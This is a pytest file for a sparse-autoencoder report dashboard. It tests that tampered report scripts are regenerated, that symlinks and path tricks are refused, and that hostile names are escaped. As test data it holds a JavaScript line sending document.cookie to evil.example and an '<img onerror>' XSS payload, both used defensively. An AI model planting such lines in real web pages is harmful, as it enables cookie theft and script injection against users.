"""A report is believed only where this user's machine wrote it; nothing but a report is ever replaced."""

import io
import json
import os
import re
import shutil
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
import yaml
from rich.console import Console

import tiny_report
from chat_server import Chat, serve
from scripted_models import knows
from vsae_lightning.autoencoders.base import SparseAutoencoder
from vsae_lightning.autoencoders.topk import TopK
from vsae_lightning.cli import main
from vsae_lightning.dashboard.data_files import read_data, write_data
from vsae_lightning.dashboard.report import default_folder, replacing_report
from vsae_lightning.dashboard.seal import SEAL, is_sealed, write_seal
from vsae_lightning.errors import InputError
from vsae_lightning.explanation.material import material
from vsae_lightning.explanation.prompts import explain
from vsae_lightning.explanation.report_data import ReportData
from vsae_lightning.explanation.report_scores import score_report
from vsae_lightning.explanation.settings import Scoring
from vsae_lightning.interop.model_card import model_card
from vsae_lightning.origin import Origin

EVIL = "\nfetch('https://evil.example/?' + document.cookie);\n"
OPTIONS = ["--tokens", "320", "--maps.which", "none", "--maps.samples", "0"]


@pytest.fixture
def own(run: Path, tmp_path: Path) -> Path:
    """A copy of a run, with a report that this machine wrote."""
    folder = tmp_path / "version_0"
    shutil.copytree(run, folder, ignore=shutil.ignore_patterns("report*"))
    main(["analyze", str(folder), *OPTIONS])
    return folder


def analyzed_again(folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    capsys.readouterr()
    main(["analyze", str(folder), *OPTIONS])
    return capsys.readouterr().out


def test_the_own_report_is_believed(own: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made = (own / "report" / "data" / "overview.js").stat().st_mtime_ns
    assert "done before" in analyzed_again(own, capsys)
    assert (own / "report" / "data" / "overview.js").stat().st_mtime_ns == made


@pytest.mark.parametrize("script", ["assets/report.js", "assets/plotly.min.js", "data/overview.js", "index.html"])
def test_altered_scripts_of_a_shipped_report_are_made_anew(
    own: Path, script: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = own / "report" / script
    path.write_text(path.read_text(encoding="utf-8") + EVIL, encoding="utf-8")
    assert "report: " in analyzed_again(own, capsys)
    assert EVIL not in path.read_text(encoding="utf-8")
    assert "done before" in analyzed_again(own, capsys)


def test_a_report_of_another_machine_is_made_anew(
    own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its seal is whole, but by the key of a stranger."""
    script = own / "report" / "assets" / "report.js"
    with monkeypatch.context() as patch:
        patch.setenv("XDG_STATE_HOME", str(tmp_path / "strangers"))
        script.write_text(EVIL)
        write_seal(own / "report")
        assert is_sealed(own / "report")
    assert "report: " in analyzed_again(own, capsys)
    assert EVIL not in script.read_text()


def test_without_a_place_for_the_key_reports_are_made_anew(
    own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    for _ in range(2):
        assert "report: " in analyzed_again(own, capsys)
    assert not (own / "report" / SEAL).exists()


def altered(folder: Path) -> None:
    (folder / "data" / "columns.js").write_text("x")


def same_size(folder: Path) -> None:
    path = folder / "data" / "columns.js"
    path.write_bytes(path.read_bytes()[::-1])


def added(folder: Path) -> None:
    (folder / "assets").mkdir()
    (folder / "assets" / "new.js").touch()


def removed(folder: Path) -> None:
    (folder / "data" / "columns.js").unlink()


def linked(folder: Path) -> None:
    path = folder / "data" / "columns.js"
    path.rename(folder.parent / "columns.js")
    path.symlink_to(folder.parent / "columns.js")


def linked_folder(folder: Path) -> None:
    (folder / "data").rename(folder.parent / "data")
    (folder / "data").symlink_to(folder.parent / "data")


def piped(folder: Path) -> None:
    os.mkfifo(folder / "data" / "pipe.js")


def piped_seal(folder: Path) -> None:
    (folder / SEAL).unlink()
    os.mkfifo(folder / SEAL)


def forged(folder: Path) -> None:
    (folder / SEAL).write_text('{"files": {}, "mac": "0"}')


def odd(folder: Path) -> None:
    (folder / SEAL).write_text("[" * 100_000)


def huge(folder: Path) -> None:
    with (folder / "data" / "columns.js").open("wb") as file:
        file.truncate(1 << 42)


@pytest.mark.parametrize(
    "change", [altered, same_size, added, removed, linked, linked_folder, piped, piped_seal, forged, odd, huge]
)
def test_a_seal_breaks(tmp_path: Path, change: Callable[[Path], None]) -> None:
    folder = tmp_path / "report"
    tiny_report.write_report(folder)
    assert not is_sealed(folder)
    write_seal(folder)
    assert is_sealed(folder)
    change(folder)
    assert not is_sealed(folder)


def test_a_report_may_be_moved(tmp_path: Path) -> None:
    tiny_report.write_report(tmp_path / "report")
    write_seal(tmp_path / "report")
    (tmp_path / "report").rename(tmp_path / "other")
    assert is_sealed(tmp_path / "other")


def test_the_key_is_the_users_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    tiny_report.write_report(tmp_path / "report")
    write_seal(tmp_path / "report")
    (key,) = (path for path in (tmp_path / "state").rglob("*") if path.is_file())
    assert key.stat().st_mode & 0o777 == 0o600
    assert len(key.read_bytes()) == 32
    assert is_sealed(tmp_path / "report")
    key.chmod(0o644)  # anybody may have read it
    assert not is_sealed(tmp_path / "report")


@pytest.mark.parametrize("name", ["report", "report/a"])
def test_a_link_in_a_run_leads_no_report_elsewhere(own: Path, tmp_path: Path, name: str) -> None:
    victim = tmp_path / "victim"
    shutil.move(own / "report", victim)
    before = sorted(victim.rglob("*"))
    (own / name).parent.mkdir(exist_ok=True)
    (own / name).symlink_to(victim)
    with pytest.raises(InputError, match="is a link to elsewhere; remove it, or give --output"):
        default_folder(own, "a")
    assert sorted(victim.rglob("*")) == before


def test_analyze_refuses_such_a_link_in_one_line(own: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.move(own / "report", tmp_path / "victim")
    (own / "report").symlink_to(tmp_path / "victim")
    before = (tmp_path / "victim" / "data" / "manifest.js").read_bytes()
    with pytest.raises(SystemExit) as exit_:
        main(["analyze", str(own), *OPTIONS])
    assert exit_.value.code == 2
    assert capsys.readouterr().err.strip().splitlines()[-1].startswith("vsae: error: output: ")
    assert (tmp_path / "victim" / "data" / "manifest.js").read_bytes() == before


@pytest.mark.parametrize("member", ["..", "a/b", "../../x", ""])
def test_a_members_name_leads_no_report_elsewhere(tmp_path: Path, member: str) -> None:
    with pytest.raises(InputError, match="names no folder"):
        default_folder(tmp_path, member)
    assert default_folder(tmp_path, "a_1-b") == tmp_path.resolve() / "report" / "a_1-b"


def test_a_leftover_that_is_a_link_is_not_followed(own: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "thesis").write_text("words")
    (own / ".report.killed").symlink_to(victim)
    with suppress(InputError), replacing_report(own / "report"):
        pass
    assert (victim / "thesis").read_text() == "words"


def test_scores_are_sealed_only_in_a_report_that_was(tmp_path: Path) -> None:
    for is_ours in (True, False):
        folder = tmp_path / str(is_ours) / "report"
        tiny_report.write_report(folder)
        if is_ours:
            write_seal(folder)
        with serve(Chat(knows)) as served:
            scoring = Scoring(url=served.address, model="m", features=2, examples=5, api_key=None)
            score_report(folder, scoring, Console(file=io.StringIO()))
        assert read_data(folder, "manifest")["has"]["scores"] is True
        assert is_sealed(folder) is is_ours


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "[" * 100_000,
        '{"x": 1}',
        '{"x": {"content": {}, "tokens": -1}}',
        '{"KEY": {"content": [true], "tokens": 1}}',
    ],
)
def test_odd_answers_beside_a_shipped_report_are_asked_anew(tmp_path: Path, text: str) -> None:
    folder = tmp_path / "report"
    tiny_report.write_report(folder)
    evidence = material(0, ReportData(folder).evidence(0), (scoring := Scoring(model="m", features=[0], examples=5)))
    assert evidence is not None
    (tmp_path / "report_answers").mkdir()
    key = explain(evidence.shown).key("m", scoring.parameters)
    (tmp_path / "report_answers" / "0.json").write_text(text.replace("KEY", key))
    with serve(Chat(knows)) as served:
        asked = Scoring(url=served.address, model="m", features=[0], examples=5)
        score_report(folder, asked, Console(file=io.StringIO()))
        assert len(served.requests) == 5
    assert read_data(folder, "scores")["features"]["0"]["explanation"].startswith("the word")


def test_a_link_leads_no_answers_elsewhere(tmp_path: Path) -> None:
    tiny_report.write_report(tmp_path / "report")
    (tmp_path / "victim").mkdir()
    (tmp_path / "report_answers").symlink_to(tmp_path / "victim")
    scoring = Scoring(url="http://localhost:1", model="m", features=[0])
    with pytest.raises(InputError, match="is a link to elsewhere"):
        score_report(tmp_path / "report", scoring, Console(file=io.StringIO()))
    assert list((tmp_path / "victim").iterdir()) == []


HOSTILE = "<img src=x onerror=alert(1)> $x$ | [a](https://evil.example) `b`"


def test_hostile_names_and_settings_are_text_in_a_report(own: Path, tmp_path: Path) -> None:
    folder = tmp_path / "<img src=x onerror=alert(1)>'"
    shutil.copytree(own, folder, ignore=shutil.ignore_patterns("report*"))
    config = yaml.safe_load((folder / "config.yaml").read_text())
    config["data"]["init_args"]["text"]["init_args"]["column"] = HOSTILE  # which no .txt has
    (folder / "config.yaml").write_text(yaml.safe_dump(config))
    (folder / "run.json").write_text(json.dumps({"git": {"commit": 5, "dirty": HOSTILE}, "versions": ["x"]}))
    main(["analyze", str(folder), *OPTIONS, "--against", str(own), "--trust_text"])
    for script in (folder / "report" / "data").rglob("*.js"):
        text = script.read_text(encoding="ascii")
        assert "<" not in text
        assert text.count("\n") == 1
    page = read_data(folder / "report", "overview")
    assert HOSTILE in page["config"]
    assert {"name": "trained with", "value": "commit 5 with changes"} in page["run"]
    assert read_data(folder / "report", "manifest")["name"] == folder.name


def test_hostile_names_are_text_in_a_model_card() -> None:
    autoencoder = SparseAutoencoder(4, 8, TopK(2))
    provenance = {"model_name": f"{HOSTILE}\n# forged", "hook_name": "blocks.1.hook_resid_post"}
    card = model_card(autoencoder, Origin(provenance, {}, {f"test/{HOSTILE}": HOSTILE}, {}), "safetensors")
    for markup in ("<img", "[a](", "$x", " `b", "\n# forged"):
        assert re.search(rf"(?<!\\){re.escape(markup)}", card) is None, markup
    assert "blocks.1.hook_resid_post" in card


def test_what_only_looks_like_a_report_is_kept(tmp_path: Path) -> None:
    """A folder of the user's own with a `data/manifest.js`, and links to a report."""
    site = tmp_path / "site"
    (site / "data").mkdir(parents=True)
    (site / "data" / "manifest.js").write_text("export default {}")
    real = tmp_path / "real"
    write_data(real, "manifest", {"name": "real"})
    (tmp_path / "link").symlink_to(real)
    inner = tmp_path / "inner"
    inner.mkdir()
    (inner / "data").symlink_to(real / "data")
    for place in (site, tmp_path / "link", inner):
        with pytest.raises(InputError, match="is there already and is no report"), replacing_report(place):
            pass
    assert (site / "data" / "manifest.js").read_text() == "export default {}"
    assert read_data(real, "manifest") == {"name": "real"}
